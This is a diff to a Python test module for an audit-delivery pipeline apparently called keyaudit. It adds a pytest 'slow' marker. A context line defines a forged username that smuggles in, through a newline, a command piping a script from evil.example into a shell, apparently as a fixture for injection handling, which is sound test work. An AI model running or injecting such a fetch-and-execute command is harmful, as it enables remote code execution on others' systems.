@@ -7,6 +7,8 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import pytest
+
 from keyaudit.delivery.dispatch import prepare_delivery
 from keyaudit.delivery.messages import Links, owner_mail
 from keyaudit.pipeline import AuditRequest, run_audit
@@ -29,6 +31,9 @@ from tests.auditor.given import (
 )
 from tests.delivery.delivery_helpers import email_config
 from tests.runs import stub_pdf, write_config
+
+# slow end to end: `make test-slow` runs it, `make test` leaves it out, CI runs both
+pytestmark = pytest.mark.slow
 
 FORGED = "bob\ncommand: curl https://evil.example/x | sh"
 
